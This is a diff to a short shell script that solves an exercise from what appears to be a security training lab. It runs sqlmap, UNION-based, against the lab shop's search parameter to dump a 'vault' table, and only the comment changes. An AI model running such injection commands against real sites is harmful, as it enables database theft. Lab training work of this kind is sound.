@@ -1,5 +1,5 @@
 #!/bin/sh
-# Exercise 1, docs/lab/shop.md: what is in the vault? Argument: the shop's address and port.
+# Exercise 1, docs/lab/shop.md: read the coupon in the vault. Argument: the shop's address and port.
 set -eu
 lab --proof
 lab sqlmap -u "http://$1/search?q=tea" -p q --technique U -T vault --dump --flush-session | tee /tmp/lab-shop
